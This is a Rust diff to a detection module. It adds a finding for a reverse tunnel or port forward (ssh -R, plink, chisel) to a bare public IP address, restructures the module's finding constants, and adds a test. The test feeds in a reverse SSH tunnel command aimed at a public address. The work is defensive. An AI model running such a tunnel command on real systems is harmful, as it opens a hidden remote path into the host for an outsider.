@@ -12,6 +12,10 @@
 //! - `fetch-from-public-address`: a command that downloads names a public address.
 //! - `disguised-address`: a host written as one number, hexadecimal or octal rather than as
 //!   a dotted address. Nothing benign needs to.
+//!
+//! Beside URLs, a tunnel or port forward (the `tunnel-proxy` signature: `ssh -R`, `plink`,
+//! `chisel` …) to a public address is `tunnel-to-public-address`: admins forward ports to
+//! their own named hosts, an intruder's reverse tunnel goes to whatever address it rents.
 
 use std::net::Ipv4Addr;
 
@@ -109,11 +113,26 @@ fn written_dotted(raw: &str, a: Ipv4Addr) -> bool {
     raw.contains(&a.to_string())
 }
 
-/// The findings on an examined text's URLs (the last decoded layer's), given the signatures
-/// and dual-use capabilities already found. `layer` is the last layer's index.
+/// The findings on an examined text's URLs and addresses (the last decoded layer's), given
+/// the signatures and dual-use capabilities already found. `layer` is the last layer's
+/// index.
 pub fn assess(tokens: &Tokens, signatures: &[Hit], dual_use: &[DualUse], layer: usize) -> Vec<Hit> {
+    let mut out: Vec<Hit> = Vec::new();
+    let mut found = |f: &Finding, evidence: &str| {
+        if !out.iter().any(|h| h.id == f.id) {
+            out.push(f.hit(evidence, layer));
+        }
+    };
+    if signatures.iter().any(|h| h.id == "tunnel-proxy")
+        && let Some(ip) = tokens.ips.iter().find(|ip| {
+            ip.parse::<Ipv4Addr>()
+                .is_ok_and(|a| ipv4_kind(a) == HostKind::Public)
+        })
+    {
+        found(&TUNNEL_TO_PUBLIC_ADDRESS, ip);
+    }
     if tokens.urls.is_empty() {
-        return Vec::new();
+        return out;
     }
     let runs = signatures.iter().any(|h| RUNS_DOWNLOAD.contains(&h.id));
     let downloads = runs
@@ -121,63 +140,69 @@ pub fn assess(tokens: &Tokens, signatures: &[Hit], dual_use: &[DualUse], layer: 
         || dual_use
             .iter()
             .any(|d| d.capability == Capability::Download);
-    let mut out = Vec::new();
-    let mut found = |id, hit: fn(String, usize) -> Hit, url: &str| {
-        if !out.iter().any(|h: &Hit| h.id == id) {
-            out.push(hit(crate::cut(url, 200).to_string(), layer));
-        }
-    };
     for d in tokens.urls.iter().filter_map(|u| destination(u)) {
         let address = matches!(d.kind, HostKind::Internal | HostKind::Public);
         if runs && address {
-            found("run-from-address", run_from_address, &d.url);
+            found(&RUN_FROM_ADDRESS, &d.url);
         }
         if downloads && d.kind == HostKind::Public {
-            found(
-                "fetch-from-public-address",
-                fetch_from_public_address,
-                &d.url,
-            );
+            found(&FETCH_FROM_PUBLIC_ADDRESS, &d.url);
         }
         if d.disguised && d.kind != HostKind::Name {
-            found("disguised-address", disguised_address, &d.url);
+            found(&DISGUISED_ADDRESS, &d.url);
         }
     }
     out
 }
 
-fn run_from_address(evidence: String, layer: usize) -> Hit {
-    Hit {
-        id: "run-from-address",
-        name: "code fetched from a bare IP address and run",
-        attack: &["T1105", "T1059"],
-        weight: 0.8,
-        evidence,
-        layer,
+/// One finding of this module: what a [`Hit`] of it says.
+struct Finding {
+    id: &'static str,
+    name: &'static str,
+    attack: &'static [&'static str],
+    weight: f32,
+}
+
+impl Finding {
+    fn hit(&self, evidence: &str, layer: usize) -> Hit {
+        Hit {
+            id: self.id,
+            name: self.name,
+            attack: self.attack,
+            weight: self.weight,
+            evidence: crate::cut(evidence, MAX_EVIDENCE).to_string(),
+            layer,
+        }
     }
 }
 
-fn fetch_from_public_address(evidence: String, layer: usize) -> Hit {
-    Hit {
-        id: "fetch-from-public-address",
-        name: "download from a bare public IP address",
-        attack: &["T1105"],
-        weight: 0.5,
-        evidence,
-        layer,
-    }
-}
+/// Longest URL or address quoted as evidence.
+const MAX_EVIDENCE: usize = 200;
 
-fn disguised_address(evidence: String, layer: usize) -> Hit {
-    Hit {
-        id: "disguised-address",
-        name: "an IP address disguised as a number",
-        attack: &["T1027", "T1105"],
-        weight: 0.6,
-        evidence,
-        layer,
-    }
-}
+const RUN_FROM_ADDRESS: Finding = Finding {
+    id: "run-from-address",
+    name: "code fetched from a bare IP address and run",
+    attack: &["T1105", "T1059"],
+    weight: 0.8,
+};
+const FETCH_FROM_PUBLIC_ADDRESS: Finding = Finding {
+    id: "fetch-from-public-address",
+    name: "download from a bare public IP address",
+    attack: &["T1105"],
+    weight: 0.5,
+};
+const TUNNEL_TO_PUBLIC_ADDRESS: Finding = Finding {
+    id: "tunnel-to-public-address",
+    name: "a tunnel or port forward to a bare public IP address",
+    attack: &["T1572"],
+    weight: 0.6,
+};
+const DISGUISED_ADDRESS: Finding = Finding {
+    id: "disguised-address",
+    name: "an IP address disguised as a number",
+    attack: &["T1027", "T1105"],
+    weight: 0.6,
+};
 
 #[cfg(test)]
 mod tests {
@@ -281,6 +306,21 @@ mod tests {
         );
         assert!(!fetched.contains(&"run-from-address"), "{fetched:?}");
         assert!(ids("curl http://192.168.1.10:9200/_cat/indices", Shell::Sh).is_empty());
+    }
+
+    #[test]
+    fn a_tunnel_to_a_public_address_is_named_and_one_to_a_name_is_not() {
+        let found = ids("ssh -R 8080:localhost:22 u@45.9.148.3 -N -f", Shell::Sh);
+        assert!(found.contains(&"tunnel-proxy"), "{found:?}");
+        assert!(found.contains(&"tunnel-to-public-address"), "{found:?}");
+        let admin = ids(
+            "ssh -N -R 8080:localhost:22 me@bastion.corp.example",
+            Shell::Sh,
+        );
+        assert!(admin.contains(&"tunnel-proxy"), "{admin:?}");
+        assert!(!admin.contains(&"tunnel-to-public-address"), "{admin:?}");
+        let inside = ids("ssh -N -R 8080:localhost:22 me@10.0.4.2", Shell::Sh);
+        assert!(!inside.contains(&"tunnel-to-public-address"), "{inside:?}");
     }
 
     #[test]
